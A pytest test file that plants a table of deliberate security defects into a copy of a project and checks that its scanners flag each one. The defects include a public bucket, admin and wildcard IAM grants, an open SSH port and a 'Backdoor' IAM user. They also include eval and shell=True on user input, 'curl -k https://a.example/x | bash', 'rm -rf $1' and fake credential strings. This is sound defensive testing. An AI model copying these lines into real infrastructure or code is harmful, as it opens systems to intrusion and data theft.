"""The security checks catch what they are for: a table of defects, planted in a copy of the tree."""

import shutil
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from types import ModuleType
from typing import NamedTuple

import pytest

from tests.project_files import PROJECT, load_check


class Defect(NamedTuple):
    """A text that replaces another one, and a part of the finding that must follow."""

    check: str
    file: str
    replaced: str
    planted: str
    finding: str


# Put together here, so that this file itself holds no secret.
ACCESS_KEY = "AKIA" + "Q3EGUZTKQ4SWXYNP"
SECRET_KEY = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYzzqQ7Ltest"
PRIVATE_KEY = "-----BEGIN RSA " + "PRIVATE KEY-----"
STATEMENTS = '\n      PolicyDocument:\n        Version: "2012-10-17"\n        Statement:\n'
ENCRYPTION = """
      BucketEncryption:
        ServerSideEncryptionConfiguration:
          - ServerSideEncryptionByDefault: {SSEAlgorithm: AES256}
"""
DATA = "include/aws/templates/data.yaml"
INSTANCE = "include/aws/templates/instance.yaml"
MONITORING = "include/aws/templates/monitoring.yaml"
GLUE = "include/aws/templates/glue.yaml"
ACCESS = "include/aws/access.py"
POLICIES = "include/aws/policies.py"
INSTALLER = "include/aws/instance/install.sh"
UNSAFE = "include/unsafe.py"

DEFECTS = {
    "bucket open to everybody": Defect(
        "templates",
        DATA,
        "Bucket: !Ref RawStore" + STATEMENTS,
        "Bucket: !Ref RawStore"
        + STATEMENTS
        + '          - {Sid: Open, Effect: Allow, Principal: "*", Action: s3:GetObject, Resource: "*"}\n',
        "RawStorePolicy: statement Open allows everybody",
    ),
    "exceptions instead of actions": Defect(
        "templates",
        DATA,
        "Bucket: !Ref CuratedStore" + STATEMENTS,
        "Bucket: !Ref CuratedStore"
        + STATEMENTS
        + '          - {Sid: Rest, Effect: Deny, Principal: "*", NotAction: s3:GetObject, Resource: "*"}\n',
        "CuratedStorePolicy: statement Rest allows everything but its exceptions",
    ),
    "bucket not encrypted": Defect(
        "templates",
        DATA,
        "BucketName: !Ref CuratedBucket" + ENCRYPTION,
        "BucketName: !Ref CuratedBucket\n",
        "CuratedStore: the bucket is not encrypted",
    ),
    "public policies not blocked": Defect(
        "templates",
        DATA,
        "BlockPublicPolicy: true",
        "BlockPublicPolicy: false",
        "RawStore: public access is not blocked",
    ),
    "no versions": Defect(
        "templates", DATA, "Status: Enabled", "Status: Suspended", "RawStore: the bucket keeps no versions"
    ),
    "access control lists": Defect(
        "templates", DATA, "BucketOwnerEnforced", "ObjectWriter", "RawStore: access control lists"
    ),
    "connections without TLS": Defect(
        "templates",
        DATA,
        "Bucket: !Ref QualityStore\n",
        "Bucket: !Ref RawStore\n",
        "QualityStore: connections without TLS",
    ),
    "data deleted with the stack": Defect(
        "templates",
        DATA,
        "ArtifactStore:\n    Type: AWS::S3::Bucket\n    DeletionPolicy: RetainExceptOnCreate",
        "ArtifactStore:\n    Type: AWS::S3::Bucket\n    DeletionPolicy: Delete",
        "ArtifactStore: deleting the stack",
    ),
    "logs kept forever": Defect(
        "templates", DATA, "      RetentionInDays: !Ref TaskLogDays\n", "", "TaskLogs: logs are kept forever"
    ),
    "IMDSv1": Defect(
        "templates",
        INSTANCE,
        "HttpTokens: required",
        "HttpTokens: optional",
        "Instance: the metadata service",
    ),
    "metadata for containers": Defect(
        "templates", INSTANCE, "HopLimit: 1", "HopLimit: 2", "Instance: containers reach the metadata"
    ),
    "unencrypted disk": Defect(
        "templates", INSTANCE, "Encrypted: true", "Encrypted: false", "Instance: a disk is not encrypted"
    ),
    "open port": Defect(
        "templates",
        INSTANCE,
        "      SecurityGroupEgress:",
        "      SecurityGroupIngress: [{IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 0.0.0.0/0}]\n"
        "      SecurityGroupEgress:",
        "NoWayIn: incoming connections are allowed",
    ),
    "all outgoing ports": Defect(
        "templates",
        INSTANCE,
        "FromPort: 443, ToPort: 443",
        "FromPort: 0, ToPort: 65535",
        "NoWayIn: outgoing connections",
    ),
    "unknown resource type": Defect(
        "templates",
        GLUE,
        "Resources:\n",
        "Resources:\n  Backdoor:\n    Type: AWS::IAM::User\n",
        "Backdoor: no rule covers the type AWS::IAM::User",
    ),
    "topic open to other accounts": Defect(
        "templates",
        MONITORING,
        "            Condition: {StringEquals: {aws:SourceAccount: !Ref AWS::AccountId}}\n",
        "",
        "AlertTopicPolicy: statement AlarmsAndBudgets trusts cloudwatch.amazonaws.com without",
    ),
    "function open to any event": Defect(
        "templates",
        MONITORING,
        "      SourceArn: !GetAtt WatchdogSchedule.Arn\n",
        "",
        "anybody's events may invoke",
    ),
    "administrator": Defect(
        "templates",
        ACCESS,
        '{"Ref": "AgentPolicy"},\n',
        '"arn:aws:iam::aws:policy/AdministratorAccess",\n',
        "WorkerRole: the attached policy arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    "role that trusts everybody": Defect(
        "templates",
        ACCESS,
        'trust({"Service": "ec2.amazonaws.com"})',
        'trust({"AWS": "*"})',
        "WorkerRole: statement without a name allows everybody (*)",
    ),
    "service trusted for any account": Defect(
        "templates",
        ACCESS,
        'trust_service(place, "glue.amazonaws.com")',
        'trust({"Service": "glue.amazonaws.com"})',
        "GlueJobRole: statement without a name trusts glue.amazonaws.com without a source account",
    ),
    "unknown service trusted": Defect(
        "templates",
        ACCESS,
        'trust({"Service": "lambda.amazonaws.com"})',
        'trust_service(place, "codebuild.amazonaws.com")',
        "WatchdogRole: statement without a name trusts codebuild.amazonaws.com",
    ),
    "MWAA may change roles": Defect(
        "templates",
        ACCESS,
        '["airflow:PublishMetrics"]',
        '["iam:*"]',
        "MwaaPolicy: statement ReportHealth allows iam:*",
    ),
    "MWAA may pass roles": Defect(
        "templates",
        ACCESS,
        '["s3:GetAccountPublicAccessBlock"]',
        '["iam:PassRole"]',
        "MwaaPolicy: statement CheckPublicAccess allows iam:PassRole",
    ),
    "MWAA may use every key": Defect(
        "templates",
        ACCESS,
        '"Condition": via,',
        "",
        "MwaaPolicy: statement ReadQueues allows kms:Decrypt without",
    ),
    "every secret": Defect(
        "templates",
        POLICIES,
        'place.arn("secretsmanager", f"secret:{place.name}/*")',
        '"*"',
        "WorkerServicesPolicy: statement ReadSecrets allows secretsmanager:GetSecretValue on all",
    ),
    "every action on a bucket": Defect(
        "templates",
        POLICIES,
        'allow("WriteDocs", READ_AND_WRITE',
        'allow("WriteDocs", ["s3:*"]',
        "WorkerDataPolicy: statement WriteDocs allows s3:*",
    ),
    "every bucket": Defect(
        "templates",
        POLICIES,
        'allow("Stage", READ_AND_WRITE, place.object_arn(staged(layout)))',
        'allow("Stage", READ_AND_WRITE, "arn:aws:s3:::*")',
        "WorkerDataPolicy: statement Stage reaches a bucket",
    ),
    "metrics of any namespace": Defect(
        "templates",
        POLICIES,
        '{"StringEquals": {"cloudwatch:namespace": namespaces}}',
        "{}",
        "WatchdogPolicy: statement SendMetrics allows cloudwatch:PutMetricData without",
    ),
    "shell with an excuse": Defect(
        "code",
        UNSAFE,
        "",
        "import subprocess\nsubprocess.run(input(), shell=True)  # nosec - trusted\n",
        "B602",
    ),
    "scanner switched off": Defect(
        "suppressions", UNSAFE, "", "subprocess.run(input(), shell=True)  # nosec\n", "shell=True)  # nosec"
    ),
    "any object from YAML": Defect(
        "code", UNSAFE, "", "import yaml\nyaml.load(input(), yaml.Loader)\n", "B506"
    ),
    "evaluated input": Defect("code", UNSAFE, "", "eval(input())\n", "B307"),
    "TLS not verified": Defect(
        "code", UNSAFE, "", "import requests\nrequests.get('https://a', verify=False, timeout=1)\n", "B501"
    ),
    "access key": Defect("secrets", "benchmarks/key.py", "", f"key = '{ACCESS_KEY}'\n", "AWS Access Key"),
    "secret key in a test": Defect(
        "secrets", "tests/key.txt", "", f"secret {SECRET_KEY}\n", "like an AWS secret key"
    ),
    "private key in a guide": Defect("secrets", "docs/key.md", "", f"{PRIVATE_KEY}\n", "Private Key"),
    "password of a connection": Defect(
        "settings",
        "airflow_settings.yaml",
        "conn_password: generated",
        "conn_password: hunter2",
        "ecommerce_s3",
    ),
    "range of versions": Defect("pins", "requirements.txt", "pandas==3.1.1", "pandas>=3", "pandas>=3"),
    "package from a branch": Defect(
        "pins",
        "requirements-dev.txt",
        "pytest==9.2.0",
        "pytest @ git+https://example.com/pytest",
        "git+https",
    ),
    "unverified script": Defect(
        "scripts",
        INSTALLER,
        "set -euo pipefail\n",
        "set -euo pipefail\ncurl -k https://a.example/x | bash\n",
        "download-to-shell",
    ),
    "certificate not checked": Defect(
        "scripts", INSTALLER, "", "curl -k https://a.example/y\n", "no-certificate-check"
    ),
    "foreign package index": Defect(
        "scripts",
        "Dockerfile",
        "ARG REQUIREMENTS",
        "RUN pip install --extra-index-url https://a.example x\nARG REQUIREMENTS",
        "foreign-index",
    ),
    "unquoted path": Defect("scripts", "tests/wipe.sh", "", "#!/bin/bash\nrm -rf $1\n", "SC2086"),
    "image without a version": Defect(
        "image", "Dockerfile", "FROM ${BASE_IMAGE}", "FROM debian:latest", "DL3007"
    ),
    "root in the image": Defect("image", "Dockerfile", "HEALTHCHECK", "USER root\nHEALTHCHECK", "DL3002"),
    "privileged container": Defect(
        "compose",
        "compose.yaml",
        "services:\n",
        "services:\n  a: {image: 'b:1', privileged: true}\n",
        "CL-0002",
    ),
}
REQUIRED_FILES = {
    "Dockerfile": "image",
    "compose.yaml": "compose",
    "airflow_settings.yaml": "settings",
    INSTALLER: "scripts",
    INSTANCE: "templates",
}


@pytest.fixture(scope="module")
def checks() -> ModuleType:
    return load_check("check_security")


def copy_tree(target: Path) -> Path:
    names = subprocess.run(
        ["git", "ls-files", "-co", "--exclude-standard"],
        cwd=PROJECT,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    for name in names:
        if (PROJECT / name).is_file() and not name.startswith("docs/images/"):
            (target / name).parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(PROJECT / name, target / name)
    subprocess.run(["git", "init", "--quiet", target], check=True)
    return target


def plant(tree: Path, defect: Defect) -> None:
    file = tree / defect.file
    text = file.read_text() if file.exists() else ""
    assert defect.replaced in text, "the table does not fit the file any more"
    file.write_text(
        text.replace(defect.replaced, defect.planted, 1) if defect.replaced else text + defect.planted
    )


@pytest.fixture(scope="module")
def find(
    checks: ModuleType, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Callable[[str], list[str]]]:
    """Runs a check, once, over a copy of the tree that has every defect."""
    tree = copy_tree(tmp_path_factory.mktemp("tree"))
    for defect in DEFECTS.values():
        plant(tree, defect)
    found: dict[str, list[str]] = {}

    def run_check(name: str) -> list[str]:
        if name not in found:
            found[name] = [str(each) for each in checks.CHECKS[name]() if each not in checks.ACCEPTED]
        return found[name]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(checks, "PROJECT", tree)
        yield run_check


@pytest.mark.parametrize("defect", DEFECTS.values(), ids=DEFECTS.keys())
def test_planted_defect_is_found(find: Callable[[str], list[str]], defect: Defect) -> None:
    assert [each for each in find(defect.check) if defect.finding in each]


def test_second_scanner_finds_planted_defects(checks: ModuleType, find: Callable[[str], list[str]]) -> None:
    if not (checks.SCANNERS / "checkov").exists():
        pytest.skip("make check-security installs checkov")

    rules = " ".join(find("checkov"))

    assert [rule for rule in ("CKV_AWS_24", "CKV_AWS_60") if rule not in rules] == []


@pytest.mark.parametrize(("file", "check"), REQUIRED_FILES.items())
def test_missing_file_is_an_error(
    checks: ModuleType, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file: str, check: str
) -> None:
    tree = copy_tree(tmp_path)
    (tree / file).unlink()
    monkeypatch.setattr(checks, "PROJECT", tree)

    with pytest.raises(checks.NotPossibleError):
        list(checks.CHECKS[check]())


def test_missing_tool_is_an_error(checks: ModuleType, tmp_path: Path) -> None:
    with pytest.raises(checks.NotPossibleError, match="not installed"):
        checks.read_json("scanner", folder=tmp_path)


def _report(module: ModuleType, monkeypatch: pytest.MonkeyPatch, packages: list[dict[str, object]]) -> None:
    monkeypatch.setattr(module, "read_json", lambda *_: {"dependencies": packages})


def test_advisory_is_a_finding(checks: ModuleType, monkeypatch: pytest.MonkeyPatch) -> None:
    _report(checks, monkeypatch, [{"name": "old", "version": "1.0", "vulns": [{"id": "PYSEC-1"}]}])

    assert checks.audit_dependencies() == [checks.Finding("pip-audit", "PYSEC-1", "old 1.0")]


def test_audit_without_advisories_is_not_possible(
    checks: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    _report(checks, monkeypatch, [{"name": "any", "skip_reason": "not found"}])

    with pytest.raises(checks.UnreachableError):
        checks.audit_dependencies()


@pytest.mark.parametrize(
    ("error", "required", "code"),
    [("UnreachableError", "", 0), ("UnreachableError", "1", 1), ("NotPossibleError", "", 1)],
)
def test_check_that_cannot_run_fails(
    checks: ModuleType, monkeypatch: pytest.MonkeyPatch, error: str, required: str, code: int
) -> None:
    def fail() -> None:
        raise getattr(checks, error)("no answer")

    monkeypatch.setattr(checks, "CHECKS", {"dependencies": fail})
    monkeypatch.setattr(checks, "ACCEPTED", {})
    monkeypatch.setenv("REQUIRE_AUDIT", required)

    assert checks.main() == code


def test_unused_exception_is_a_fault(
    checks: ModuleType, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(checks, "CHECKS", {})

    assert checks.main() == 1
    assert "no longer needed in ACCEPTED" in capsys.readouterr().err
